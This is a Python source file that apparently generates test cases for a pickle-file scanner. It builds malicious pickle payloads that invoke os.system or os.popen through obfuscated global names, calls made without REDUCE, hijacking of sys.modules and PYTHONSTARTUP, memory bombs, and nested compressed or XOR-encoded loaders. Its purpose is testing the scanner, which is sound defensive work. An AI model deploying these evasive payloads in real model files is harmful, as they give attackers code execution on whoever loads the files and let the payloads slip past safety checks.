"""Attack shapes: what the pickle machine itself allows: names made on the way, calls without REDUCE, nested loaders."""

from __future__ import annotations

import bz2
import lzma
import pickle
import struct
from collections.abc import Callable

from judge_kit import Folder, blob, build, call, instance, mapping, name, npy, opcodes, reduce, text, torch_zip, whole
from second_attacks_base import ECHO, bad, imported, one

GO = one(text(ECHO)) + b"R"


def named(module: bytes, attribute: bytes) -> bytes:
    """A call of a global whose two names these opcodes make."""
    return module + attribute + b"\x93" + GO


def names_made() -> dict[str, bytes]:
    """STACK_GLOBAL with names that the machine computes."""
    string = name("builtins", "str")
    reconstructor = name("copyreg", "_reconstructor")
    return {
        "name-by-newobj-str": named(string + one(text("posix")) + b"\x81", string + one(text("system")) + b"\x81"),
        "name-by-reconstructor": named(
            reconstructor + b"(" + string + string + text("posix") + b"tR",
            reconstructor + b"(" + string + string + text("system") + b"tR",
        ),
        "name-by-rot13": named(call("codecs", "decode", "cbfvk", "rot13"), call("codecs", "decode", "flfgrz", "rot13")),
        "name-by-replace": named(text("posix"), call("builtins", "str.replace", "sysXtem", "X", "")),
        "name-by-reversed": named(
            reduce(name("builtins", "str.join"), text(""), call("builtins", "reversed", "xisop")), text("system")
        ),
        "name-by-decode": named(call("builtins", "bytes.decode", b"posix"), text("system")),
        "name-by-format": named(text("posix"), call("builtins", "str.format", "{}{}", "sys", "tem")),
        "name-by-scalar": named(
            text("posix"),
            reduce(name("numpy.core.multiarray", "scalar"), call("numpy", "dtype", "O8", False, True), text("system")),
        ),
        "name-by-dict-get": named(
            reduce(name("builtins", "dict.get"), mapping(a=text("posix")), text("a")), text("system")
        ),
        "name-by-chain-map": named(text("posix"), call("operator", "getitem", ["x", "system"], 1)),
        "name-by-translate": named(text("posix"), call("builtins", "str.translate", "sysTem", {84: 116})),
        "name-by-bytes-path": named(text("posix"), call("posixpath", "basename", "/usr/system")),
        "name-by-environment": named(text("posix"), call("os", "getenv", "NONE", "system")),
        "name-by-duplicate": text("posix") + b"20" + text("system") + b"\x93" + GO,
        "name-by-shared-memo": text("system") + b"r\x00\x01\x00\x000" + text("posix") + b"j\x00\x01\x00\x00\x93" + GO,
    }


def calls_without_reduce() -> dict[str, bytes]:
    """APPEND, ADDITEMS, SETITEM and BUILD call methods of whatever object lies on the stack."""
    plain = instance("types", "SimpleNamespace")
    popen = imported("os", "popen")
    appends = build(plain, mapping(append=popen)) + text(ECHO) + b"a"
    extends = build(plain, mapping(extend=imported("posix", "system"))) + b"(" + text(ECHO) + b"e"
    adds = build(plain, mapping(add=popen)) + b"(" + text(ECHO) + b"\x90"
    environ = name("os", "environ") + text("PYTHONSTARTUP") + text("/tmp/assay-second.py") + b"s"
    modules = name("sys", "modules") + text("json") + name("pickle", "loads") + b"s"
    path_first = name("sys", "path") + text("/tmp/assay-second") + b"a"
    module_state = build(name("joblib", "numpy_pickle"), mapping(load=imported("os", "system")))
    class_slot = name("sklearn.base", "BaseEstimator") + b"N" + mapping(predict=imported("os", "system")) + b"\x86b"
    setstate = (
        name("collections", "UserDict")
        + b"N"
        + mapping(__setstate__=imported("os", "system"))
        + b"\x86b0"
        + instance("collections", "UserDict")
        + text(ECHO)
        + b"b"
    )
    finder = name("sys", "meta_path") + b"(" + plain + b"e"
    deque = reduce(name("collections", "deque"), reduce(name("builtins", "map"), popen, b"](" + text(ECHO) + b"e"))
    ordered = reduce(
        name("collections", "OrderedDict"),
        reduce(name("builtins", "zip"), reduce(name("builtins", "map"), popen, one(text(ECHO))), one(text("a"))),
    )
    frozen = reduce(name("builtins", "frozenset"), reduce(name("builtins", "filter"), popen, one(text(ECHO))))
    counter = reduce(name("collections", "Counter"), reduce(name("builtins", "map"), popen, one(text(ECHO))))
    array = reduce(
        name("numpy", "fromiter"),
        reduce(name("builtins", "map"), imported("posix", "system"), one(text(ECHO))),
        text("i"),
    )
    subclass = reduce(
        name("builtins", "type"), text("A"), one(name("builtins", "object")), mapping(__init__=imported("os", "system"))
    )
    return {
        "append-calls": appends,
        "appends-call-extend": extends,
        "additems-call-add": adds,
        "setitem-environment": environ,
        "setitem-modules": modules,
        "append-to-path": path_first,
        "append-to-finders": finder,
        "build-on-module": module_state,
        "build-on-class": class_slot,
        "build-class-then-state": setstate,
        "map-in-deque": deque,
        "map-in-ordered-dict": ordered,
        "filter-in-frozenset": frozen,
        "map-in-counter": counter,
        "map-in-fromiter": array,
        "type-made-class": subclass + one(text(ECHO)) + b"R",
    }


def bombs() -> dict[str, bytes]:
    """Loads that never end or take all memory."""
    tuple_bomb = b"K\x01K\x02\x86" + b"2\x86" * 60
    return {
        "tuple-hash-bomb": b"}" + tuple_bomb + b"Ns",
        "tuple-in-set-bomb": b"\x8f(" + tuple_bomb + b"\x90",
        "memo-bomb": b"Nr\xff\xff\xff\x3f",
        "power-bomb": call("operator", "pow", 10, 10**9),
        "repeat-bomb": call("operator", "mul", "x", 10**10),
        "range-list-bomb": reduce(name("builtins", "list"), call("builtins", "range", 10**13)),
        "ones-bomb": call("numpy", "ones", [40000, 40000]),
        "count-forever": reduce(name("builtins", "list"), call("itertools", "count")),
    }


def texts() -> dict[str, bytes]:
    """Old text opcodes in spellings that C's parser takes."""
    system = b"cposix\nsystem\n"
    say = b"S'" + ECHO.encode() + b"'\n"
    return {
        "memo-text-plus": system + b"p+7\n0g 7\n(" + say + b"tR.",
        "memo-text-padded": system + b"p 12\n0g12 \n(" + say + b"tR.",
        "string-double-quotes": system + b'(S"' + ECHO.encode() + b'"\ntR.',
        "string-octal": b"(S'\\145\\143\\150\\157 \\141'\niposix\nsystem\n.",
        "inst-python2-module": b"(" + say + b"icommands\ngetstatusoutput\n.",
        "obj-no-proto": b"(" + system + say + b"o.",
        "mark-inside-mark": b"((((" + system + say + b"o00.",
        "pop-mark-many": b"(((1" + system + b"(" + say + b"tR.",
        "long-int-arguments": b"cos\nkill\n(L1L\nL9L\ntR.",
        "reduce-then-stop-early": system + b"(" + say + b"tR0N." + b"\x80\x04N.",
        "global-imap-python2": b"c__builtin__\nlist\n(citertools\nimap\n(" + system + b"(" + say + b"ltRtR.",
        "persistent-id-text": b"P" + b"weights\n" + b"0" + system + b"(" + say + b"tR.",
    }


def nested() -> dict[str, Callable[[], Folder]]:
    """Loaders that a pickle hands bytes, or other files beside it."""
    stream = call("_io", "BytesIO", bad(2))
    object_array = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", bad(3))
    deep = bad(2)
    for _ in range(5):
        deep = whole(call("_pickle", "loads", deep), 4)
    one_file: dict[str, bytes] = {
        "python-loads": call("pickle", "_loads", bad(2)),
        "python-unpickler": reduce(name("pickle", "_Unpickler.load"), reduce(name("pickle", "_Unpickler"), stream)),
        "forking-pickler": call("multiprocessing.reduction", "ForkingPickler.loads", bad(3)),
        "connection-pickler": call("multiprocessing.connection", "_ForkingPickler.loads", bad(3)),
        "pandas-read-stream": reduce(name("pandas", "read_pickle"), stream),
        "pandas-compat-load": reduce(name("pandas.compat.pickle_compat", "load"), stream),
        "numpy-read-array": reduce(
            name("numpy.lib.format", "read_array"), call("_io", "BytesIO", object_array), b"\x88"
        ),
        "joblib-compat": call("joblib.numpy_pickle_compat", "load_compatibility", "inner.pkl"),
        "joblib-cloudpickle": call("joblib.externals.cloudpickle", "loads", bad(4)),
        "torch-rpc": call("torch.distributed.rpc.internal", "deserialize", bad(2), []),
        "torch-load-zip": reduce(name("torch", "load"), call("_io", "BytesIO", torch_zip(bad(2)))),
        "pickle5": call("pickle5", "loads", bad(5)),
        "zodbpickle": call("zodbpickle", "loads", bad(2)),
        "bz2-then-loads": reduce(name("_pickle", "loads"), call("bz2", "decompress", bz2.compress(bad(2)))),
        "lzma-then-loads": reduce(name("_pickle", "loads"), call("lzma", "decompress", lzma.compress(bad(2)))),
        "xor-by-table": reduce(
            name("_pickle", "loads"),
            reduce(
                name("builtins", "bytes.translate"),
                blob(bytes(b ^ 32 for b in bad(2))),
                blob(bytes(b ^ 32 for b in range(256))),
            ),
        ),
        "joined-bytes": reduce(
            name("_pickle", "loads"), reduce(name("operator", "add"), blob(bad(2)[:9]), blob(bad(2)[9:]))
        ),
        "six-deep": call("pickle", "loads", deep),
        "dill-loads-stream": reduce(name("dill", "load"), stream),
        "cloudpickle-load-stream": reduce(name("cloudpickle", "load"), stream),
        "marshal-load-stream": reduce(name("marshal", "load"), call("_io", "BytesIO", b"\xe3" + bytes(40))),
        "loads-by-map": reduce(
            name("builtins", "list"),
            reduce(name("builtins", "map"), name("_pickle", "loads"), b"](" + blob(bad(2)) + b"e"),
        ),
        "loads-in-dtype-metadata": reduce(name("numpy", "dtype"), opcodes("V8", 3), b"\x89", b"\x88")
        + b"(K\x03U\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00"
        + mapping(m=call("_pickle", "loads", bad(2)))
        + b"tb",
    }
    return {k: (lambda v=v: {"model.pkl": whole(v)}) for k, v in one_file.items()}


def streams() -> dict[str, Folder]:
    """Files of several pickles, and torch's legacy sequence."""
    good = pickle.dumps({"weight": [0.5] * 4}, 2)
    magic, version = opcodes(0x1950A86A20F9469CFC6C), opcodes(1001)
    head = whole(magic, 2) + whole(version, 2)
    wrapper = (
        name("joblib.numpy_pickle", "NumpyArrayWrapper")
        + b")\x81"
        + mapping(
            subclass=name("numpy", "ndarray"),
            shape=opcodes((4,)),
            order=text("C"),
            dtype=call("numpy", "dtype", "f8", False, True),
            allow_mmap=b"\x88",
        )
        + b"b"
    )
    raw = struct.pack("<4d", 1, 2, 3, 4)
    side = {"subclass": name("numpy", "ndarray"), "filename": text("model.pkl_01.npy"), "allow_mmap": b"\x89"}
    old = build(instance("joblib.numpy_pickle_compat", "NDArrayWrapper"), mapping(**side))
    object_array = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", bad(3))
    return {
        "pickle-stream--legacy-torch-second": {"model.pth": whole(magic, 2) + bad(2) + good * 3},
        "pickle-stream--legacy-torch-system": {"model.pth": head + bad(2) + good * 2},
        "pickle-stream--after-thousand": {"log.pkl": good * 1000 + bad(2)},
        "pickle-stream--joblib-after-array": {
            "model.joblib": b"\x80\x04(" + wrapper + raw + call("os", "system", ECHO) + b"t."
        },
        "pickle-stream--joblib-opcodes-in-array": {
            "model.joblib": b"\x80\x04(" + wrapper + b"." * 32 + call("os", "popen", ECHO) + b"t."
        },
        "pickle-stream--joblib-side-file": {"model.pkl": whole(old, 2), "model.pkl_01.npy": object_array},
        "pickle-stream--frame-ends-in-name": {
            "model.pkl": b"\x80\x04\x95" + struct.pack("<Q", 4) + b"cpos" + b"ix\nsystem\n" + GO + b"."
        },
        "pickle-stream--frame-longer-than-call": {
            "model.pkl": b"\x80\x04\x95" + struct.pack("<Q", 20) + b"cposix\nsystem\n(" + text(ECHO) + b"tR."
        },
    }


def shapes() -> dict[str, Folder]:
    """The opcode, nested and stream shapes."""
    made: dict[str, Folder] = {}
    for number, (key, code) in enumerate((names_made() | calls_without_reduce() | bombs()).items()):
        made[f"pickle-opcode--{key}"] = {"model.pkl": whole(code, 4 + number % 2)}
    for key, code in texts().items():
        made[f"pickle-opcode--{key}"] = {"model.pkl": code}
    for key, maker in nested().items():
        made[f"pickle-nested--{key}"] = maker()
    made["pickle-nested--joblib-compat"]["inner.pkl"] = bad(2)
    return made | streams()
